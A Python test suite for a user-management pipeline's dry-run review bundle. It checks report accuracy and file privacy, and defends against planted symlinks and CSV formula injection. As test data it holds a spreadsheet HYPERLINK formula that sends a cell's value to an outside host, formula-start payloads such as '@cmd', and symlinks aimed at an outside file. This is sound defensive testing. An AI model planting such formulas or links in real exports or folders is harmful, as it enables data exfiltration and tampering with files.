"""The dry-run review bundle against the real server: complete, private, and exactly what the real run does."""

from __future__ import annotations

import csv
import html
import json
import os
import re
import stat
from pathlib import Path

import pytest
from bson import ObjectId
from dagster import DagsterInstance
from pymongo import MongoClient

from usermgmt_pipeline.config import load_config
from usermgmt_pipeline.orchestration.build import USER_MANAGEMENT_JOB, build_definitions, run_config
from usermgmt_pipeline.orchestration.task_assets import DRY_RUN_JOB
from usermgmt_pipeline.review.bundle import open_bundle
from usermgmt_pipeline.review.collect import PLACEHOLDER_TOKEN
from usermgmt_pipeline_tests.orchestration.helpers import config_document, seed, write_config
from usermgmt_pipeline_tests.test_cli import run_cli

NOTICE_AND_DELETION_TASKS = {
    "clean_up_unverified_users": "delete",
    "send_reminder_to_confirm_accounts": "registration",
    "notify_inactive_users": "account-inactivity",
    "delete_marked_users": "delete",
}


def _seed_alpha(mongo_client: MongoClient, db_prefix: str) -> None:
    seed(mongo_client, db_prefix, ["alpha"])
    # The demo's "one minute before the deletion threshold" user would cross it between the two runs.
    mongo_client[f"{db_prefix}alpha_users"]["users"].delete_one(
        {"account.accountID": "alpha.user1@example.org"}
    )


def _modes(root: Path) -> tuple[set[int], set[int]]:
    paths = [root, *root.rglob("*")]
    dirs = {stat.S_IMODE(p.stat().st_mode) for p in paths if p.is_dir()}
    files = {stat.S_IMODE(p.stat().st_mode) for p in paths if p.is_file()}
    return dirs, files


def test_dry_run_report_lists_exactly_the_users_acted_on_and_the_emails_queued_by_the_real_run(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    _seed_alpha(mongo_client, db_prefix)
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    report = tmp_path / "review"

    dry = run_cli(["--dry-run", "--report", str(report)], config, tmp_path)
    assert dry.returncode == 0, dry.stdout + dry.stderr
    assert f"review bundle: {report / 'index.html'}" in dry.stderr
    assert _modes(report) == ({0o700}, {0o600})
    rows = [json.loads(line) for line in (report / "users.jsonl").read_text().splitlines()]
    csv_lines = (report / "users.csv").read_text().splitlines()
    assert len(csv_lines) == len(rows) + 1 and csv_lines[0].startswith("instance_id,task,user_id,account_id")
    assert {r["task"] for r in rows} == set(NOTICE_AND_DELETION_TASKS)
    for row in rows:
        assert (
            row["account_id"].endswith("@example.org")
            and row["threshold"]
            and " < " in row["selected_because"]
        )
        assert (report / row["email_file"]).is_file()
    deletions = [r for r in rows if r["planned_action"] == "delete"]
    assert deletions and all(r["leave_rule_studies"] for r in deletions)  # the demo enrols every profile
    page = (report / "index.html").read_text()
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", page) and "<link" not in page
    assert "mass-deletion guard at clean_up_unverified_users: would pass" in page
    assert all(r["user_id"] in page and r["email_file"] in page for r in rows)

    real = run_cli([], config, tmp_path)
    assert real.returncode == 0, real.stdout + real.stderr

    audit = mongo_client[f"{db_prefix}usermgmt-pipeline"]["audit"]
    for task, action in NOTICE_AND_DELETION_TASKS.items():
        acted_on = {r["userID"] for r in audit.find({"task": task, "action": action, "outcome": "done"})}
        assert acted_on == {r["user_id"] for r in rows if r["task"] == task}, task
    outgoing = list(mongo_client[f"{db_prefix}alpha_messageDB"]["outgoing-emails"].find({}))
    assert sorted((d["userId"], d["messageType"]) for d in outgoing) == sorted(
        (r["user_id"], r["message_type"]) for r in rows
    )
    tokens = mongo_client[f"{db_prefix}global-infos"]["temp-tokens"]
    by_email = {(r["user_id"], r["message_type"]): r for r in rows}
    for doc in outgoing:
        row = by_email[(doc["userId"], doc["messageType"])]
        previewed = (report / row["email_file"]).read_text()
        meta = json.loads((report / row["email_file"]).with_suffix(".json").read_text())
        # the real email carries the user's real token where the preview has the placeholder
        candidates = {
            previewed.replace(PLACEHOLDER_TOKEN, t["token"]) for t in tokens.find({"userID": doc["userId"]})
        }
        assert doc["content"] in (candidates | {previewed}) and doc["subject"] == meta["subject"]
        assert doc["to"] == [row["account_id"]]
    emails = {(r["message_type"], r["language"]) for r in rows}
    assert len(list((report / "emails" / "alpha").glob("*.html"))) == len(emails)  # one per type x language


def test_dagster_report_writes_under_report_dir_and_events_carry_only_path_and_counts(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    _seed_alpha(mongo_client, db_prefix)
    reports = tmp_path / "reports"
    document = config_document(mongo_uri, db_prefix, ["alpha"], orchestration={"report_dir": str(reports)})
    path = write_config(tmp_path / "config.yaml", document)
    defs = build_definitions(load_config(path), str(path))
    with DagsterInstance.ephemeral() as instance:
        result = defs.resolve_job_def(DRY_RUN_JOB).execute_in_process(
            partition_key="alpha", instance=instance, run_config=run_config(dry_run=True, report=True)
        )
        assert result.success
        logs = "\n".join(str(entry) for entry in instance.all_logs(result.run_id))
    bundle = reports / result.run_id
    [cleanup] = [
        e.step_output_data
        for e in result.all_events
        if e.event_type_value == "STEP_OUTPUT" and e.step_key == "dry_run_clean_up_unverified_users"
    ]
    assert cleanup.metadata["review_bundle"].value == str(bundle)
    assert cleanup.metadata["review_listed"].value == 1
    assert (bundle / "index.html").is_file() and _modes(bundle) == ({0o700}, {0o600})
    listed = [json.loads(line) for line in (bundle / "users.jsonl").read_text().splitlines()]
    assert listed and "@example.org" not in logs


def test_report_needs_a_dry_run_and_a_folder_that_is_free_or_ours(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    no_dry = run_cli(["--report", str(tmp_path / "r")], config, tmp_path)
    assert no_dry.returncode == 2 and "--dry-run" in no_dry.stderr
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine")
    refused = run_cli(["--dry-run", "--report", str(foreign)], config, tmp_path)
    assert refused.returncode == 2 and "not a review bundle" in refused.stderr
    assert (foreign / "notes.txt").read_text() == "mine"
    assert f"{db_prefix}usermgmt-pipeline" not in mongo_client.list_database_names()


def test_dagster_report_without_dry_run_fails_before_touching_anyone(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    _seed_alpha(mongo_client, db_prefix)
    users = mongo_client[f"{db_prefix}alpha_users"]["users"]
    before = users.count_documents({})
    document = config_document(
        mongo_uri, db_prefix, ["alpha"], orchestration={"report_dir": str(tmp_path / "r")}
    )
    path = write_config(tmp_path / "config.yaml", document)
    defs = build_definitions(load_config(path), str(path))
    with DagsterInstance.ephemeral() as instance:
        result = defs.resolve_job_def(USER_MANAGEMENT_JOB).execute_in_process(
            partition_key="alpha", instance=instance, run_config=run_config(report=True), raise_on_error=False
        )
    assert not result.success
    failure = next(e for e in result.all_events if e.event_type_value == "STEP_FAILURE")
    assert "report needs dry_run: true" in failure.step_failure_data.error.to_string()
    assert users.count_documents({}) == before and not (tmp_path / "r").exists()


# ------------------------------------------------------------------ the folder is ours, and no link is followed


def _outside_file(tmp_path: Path) -> Path:
    """A file the review must never touch (as root's /etc/shadow would be), with its own content and mode."""
    target = tmp_path / "outside" / "precious.txt"
    target.parent.mkdir()
    target.write_text("not the review's\n")
    target.chmod(0o644)
    return target


def _planted(folder: Path, target: Path) -> None:
    """An earlier bundle's marker, and links named like the bundle's temporary and final files."""
    (folder / ".usermgmt-review").write_text("usermgmt_pipeline review bundle\n")
    (folder / ".usermgmt-review").chmod(0o600)
    for name in (".users.csv.tmp", ".index.html.tmp", "users.csv", "users.jsonl"):
        (folder / name).symlink_to(target)


def test_report_refuses_a_folder_owned_by_another_user_and_leaves_the_link_target_alone(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    if os.geteuid() != 0:
        pytest.skip("making a folder owned by another user needs root")
    _seed_alpha(mongo_client, db_prefix)
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    target = _outside_file(tmp_path)
    foreign = tmp_path / "theirs"
    foreign.mkdir(mode=0o755)
    _planted(foreign, target)
    os.chown(foreign, 65534, 65534)  # nobody: another local user pre-created it
    os.chmod(foreign, 0o755)

    refused = run_cli(["--dry-run", "--report", str(foreign)], config, tmp_path)

    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert f"review folder {foreign} is owned by uid 65534" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert target.read_text() == "not the review's\n" and stat.S_IMODE(target.stat().st_mode) == 0o644
    assert stat.S_IMODE(foreign.stat().st_mode) == 0o755 and foreign.stat().st_uid == 65534


@pytest.mark.parametrize("mode", [0o777, 0o770])
def test_report_refuses_a_folder_writable_by_group_or_others(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient, mode: int
) -> None:
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    target = _outside_file(tmp_path)
    shared = tmp_path / "shared"
    shared.mkdir()
    _planted(shared, target)
    shared.chmod(mode)

    refused = run_cli(["--dry-run", "--report", str(shared)], config, tmp_path)

    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert f"review folder {shared} is writable by group or others (mode {mode:04o})" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert target.read_text() == "not the review's\n" and stat.S_IMODE(target.stat().st_mode) == 0o644
    assert stat.S_IMODE(shared.stat().st_mode) == mode
    assert f"{db_prefix}usermgmt-pipeline" not in mongo_client.list_database_names()


def test_report_refuses_a_folder_given_as_a_symbolic_link(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    real = tmp_path / "real"
    real.mkdir(mode=0o755)
    (tmp_path / "link").symlink_to(real)

    refused = run_cli(["--dry-run", "--report", str(tmp_path / "link")], config, tmp_path)

    assert refused.returncode == 2 and "is a symbolic link" in refused.stderr, refused.stderr
    assert list(real.iterdir()) == [] and stat.S_IMODE(real.stat().st_mode) == 0o755


def test_links_planted_in_our_own_bundle_are_replaced_never_written_through(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    """Even in a folder that passes the checks (ours, 0700), a link under a bundle file's or folder's name is
    replaced or removed: its target keeps its content and mode, and no email lands outside."""
    _seed_alpha(mongo_client, db_prefix)
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    target = _outside_file(tmp_path)
    outside_dir = tmp_path / "outside-dir"
    outside_dir.mkdir(mode=0o755)
    report = tmp_path / "review"
    report.mkdir(mode=0o700)
    _planted(report, target)
    (report / "emails").symlink_to(outside_dir)
    (report / "parts").symlink_to(outside_dir)

    done = run_cli(["--dry-run", "--report", str(report)], config, tmp_path)

    assert done.returncode == 0, done.stdout + done.stderr
    assert target.read_text() == "not the review's\n" and stat.S_IMODE(target.stat().st_mode) == 0o644
    assert list(outside_dir.iterdir()) == [] and stat.S_IMODE(outside_dir.stat().st_mode) == 0o755
    for name in ("users.csv", "users.jsonl", "emails", "parts"):
        assert not (report / name).is_symlink(), name
    assert not [p for p in report.iterdir() if p.name.endswith(".tmp")]
    assert (report / "users.csv").read_text().startswith("instance_id,task,user_id")
    assert _modes(report) == ({0o700}, {0o600})


# ------------------------------------------------------------------ CSV injection


def test_csv_cells_that_start_like_a_formula_are_neutralised_in_the_csv_only(
    tmp_path: Path, mongo_uri: str, db_prefix: str, mongo_client: MongoClient
) -> None:
    """CASE accepts `=1+2@x.org` as an address, and a language is free text: a spreadsheet would run both."""
    _seed_alpha(mongo_client, db_prefix)
    config = write_config(tmp_path / "config.yaml", config_document(mongo_uri, db_prefix, ["alpha"]))
    first = run_cli(["--dry-run", "--report", str(tmp_path / "first")], config, tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr
    listed = json.loads((tmp_path / "first" / "users.jsonl").read_text().splitlines()[0])
    address, language = "=1+2@x.org", '=HYPERLINK("https://x?d="&D2,"details")'
    mongo_client[f"{db_prefix}alpha_users"]["users"].update_one(
        {"_id": ObjectId(listed["user_id"])},
        {"$set": {"account.accountID": address, "account.preferredLanguage": language}},
    )

    report = tmp_path / "review"
    done = run_cli(["--dry-run", "--report", str(report)], config, tmp_path)

    assert done.returncode == 0, done.stdout + done.stderr
    with (report / "users.csv").open(newline="") as handle:
        [row] = [r for r in csv.DictReader(handle) if r["user_id"] == listed["user_id"]]
    assert (row["account_id"], row["language"]) == ("'" + address, "'" + language)
    [raw] = [
        json.loads(line)
        for line in (report / "users.jsonl").read_text().splitlines()
        if json.loads(line)["user_id"] == listed["user_id"]
    ]
    assert (raw["account_id"], raw["language"]) == (address, language)
    page = (report / "index.html").read_text()
    assert html.escape(address) in page and html.escape(language) in page
    assert html.escape("'" + address) not in page


def test_every_formula_start_owasp_names_is_prefixed_and_other_cells_are_kept(tmp_path: Path) -> None:
    bundle = open_bundle(tmp_path / "review")
    starts = ["=SUM(A1)", "+1", "-1+1", "@cmd", "\tx", "\rx"]
    kept = ["alice@example.org", "en", "", "2024-01-01T00:00:00Z", "a=b"]
    bundle.write_rows(
        "alpha",
        "clean_up_unverified_users",
        [{"user_id": str(i), "account_id": value, "language": "en"} for i, value in enumerate(starts + kept)],
    )
    bundle.rebuild()
    with (tmp_path / "review" / "users.csv").open(newline="") as handle:
        cells = [r["account_id"] for r in csv.DictReader(handle)]
    assert cells == ["'" + value for value in starts] + kept
